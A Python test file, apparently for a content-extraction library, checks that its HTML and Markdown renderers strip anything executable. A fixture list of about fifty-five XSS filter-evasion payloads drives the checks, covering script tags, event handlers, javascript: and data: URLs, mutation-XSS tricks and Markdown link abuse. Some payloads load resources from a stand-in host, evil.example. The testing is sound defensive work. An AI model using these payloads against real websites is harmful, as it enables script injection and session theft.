"""What is returned as HTML or Markdown cannot run anything, whatever a page put into it."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bodycopy.model import Kind, Label
from bodycopy.render import article_html, article_markdown
from bodycopy.render.sanitise import ATTRIBUTES, BLOCK_TAGS, INLINE_TAGS, TABLE_TAGS

# Kinds of vectors as the OWASP cheat sheet for filter evasion and the DOMPurify papers describe them, written out anew.
VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<img src=x:x onerror&#61;alert(1)>",
    '<img src="x" srcset="javascript:alert(1)" onload=alert(1)>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="java&#10;script&colon;alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://ok.example/" onclick="alert(1)" style="position:fixed">x</a>',
    '<a href="https://ok.example/" ping="https://evil.example/" target="_blank" id="cookie" name="body">x</a>',
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<style>@import 'https://evil.example/x.css';</style><p style='background:url(javascript:alert(1))'>x",
    "<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<select><option><style></select><img src=x onerror=alert(1)></style>",
    "</p></figcaption></td></table><script>alert(1)</script>",
    "<b <script>alert(1)</script>>x</b>",
    "<x onclick=alert(1)>x</x><custom-element onfocus=alert(1) tabindex=1>x</custom-element>",
    "<code class='language-x\" onmouseover=alert(1)'>x</code>",
    "<a href='https://ok.example/) <img src=x onerror=alert(1)>'>x</a>",
    "<a href='https://ok.example/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x</a>",
    "<img alt='](javascript:alert(1)) <img src=x onerror=alert(1)>' src='https://ok.example/a.png'>",
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) [y]: javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt; `&lt;script&gt;`",
    "\\&lt;script&gt;alert(1)&lt;/script&gt; \\[x\\](javascript:alert(1))",
    "&lt;javascript:alert(1)&gt;",
]

ALLOWED_TAGS = INLINE_TAGS | TABLE_TAGS | BLOCK_TAGS
ADDRESS = {"href", "src"}


class Strict(HTMLParser):
    """Objects to every tag, attribute and address that is not on the list."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.wrong.append(tag)
        allowed = ATTRIBUTES.get(tag, set()) | ATTRIBUTES["*"] | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            if name == "class" and tag == "code" and re.fullmatch(r"language-\S+", value or ""):
                continue
            if name not in allowed or (name in ADDRESS and not re.match(r"(?:https?|mailto):", (value or "").strip())):
                self.wrong.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(data)


def wrong_in(markup: str) -> list[str]:
    strict = Strict()
    strict.feed(markup)
    strict.close()
    return strict.wrong


def every_kind(make: Any, vector: str) -> Any:
    """The vector as the markup and as the text of a block of each kind, and as the address of an image."""
    blocks = [make.body(vector, kind, html=vector, level=1) for kind in Kind]
    blocks += [make.body(vector, kind, level=1) for kind in Kind]
    blocks.append(make.removed(vector, "caption.figure", kind=Kind.CAPTION, images=(vector,), html=vector))
    return make.document(*blocks, url="https://example.com/a/")


@pytest.mark.parametrize("vector", VECTORS)
def test_html_holds_nothing_that_is_not_on_the_list(make: Any, vector: str) -> None:
    markup = article_html(every_kind(make, vector), {Label.CAPTION})
    assert wrong_in(markup) == []
    assert markup.count("<h1>") == 2, "the vector took a neighbour with it"


@pytest.mark.parametrize("vector", VECTORS)
def test_markdown_holds_no_markup_and_no_script_address(make: Any, vector: str) -> None:
    for kind in set(Kind) - {Kind.CODE}:
        for block in (make.body(vector, kind, html=vector, level=1), make.body(vector, kind, level=1)):
            markdown = article_markdown(make.document(block, url="https://example.com/a/"), frozenset())
            assert not re.findall(r"<(?!/?su[bp]>)[a-z/!?][^\n]*", markdown, re.IGNORECASE), markdown
            assert not re.findall(r"(?<!\\)\]\(\s*(?!https?:|mailto:)", markdown), markdown
            assert not re.findall(r"(?<!\\)\]:", markdown), markdown


@pytest.mark.parametrize("code", ["```\n<img src=x onerror=alert(1)>", "~~~\n````\n<b>", "`", "\n```\n"])
def test_code_cannot_end_its_own_fence(make: Any, code: str) -> None:
    markdown = article_markdown(make.document(make.body(code, Kind.CODE), make.body("After.")), frozenset())
    fence = re.match(r"`{3,}", markdown)
    assert fence
    assert markdown.endswith(f"\n{fence[0]}\n\nAfter.")
    assert not re.search(rf"(?m)^{fence[0]}", markdown[len(fence[0]) : -len(f"\n{fence[0]}\n\nAfter.")])


@given(
    html=st.text(alphabet=st.sampled_from("<>/\"'=& \n`[]()!#-*_\\abhijmnoprst:;x1"), max_size=200), kind=st.sampled_from(Kind)
)
def test_no_markup_gets_through_whatever_it_is(make: Any, html: str, kind: Kind) -> None:
    document = make.document(make.body("text", kind, html=html), url="https://example.com/a/")
    assert wrong_in(article_html(document, frozenset())) == []
    article_markdown(document, frozenset())
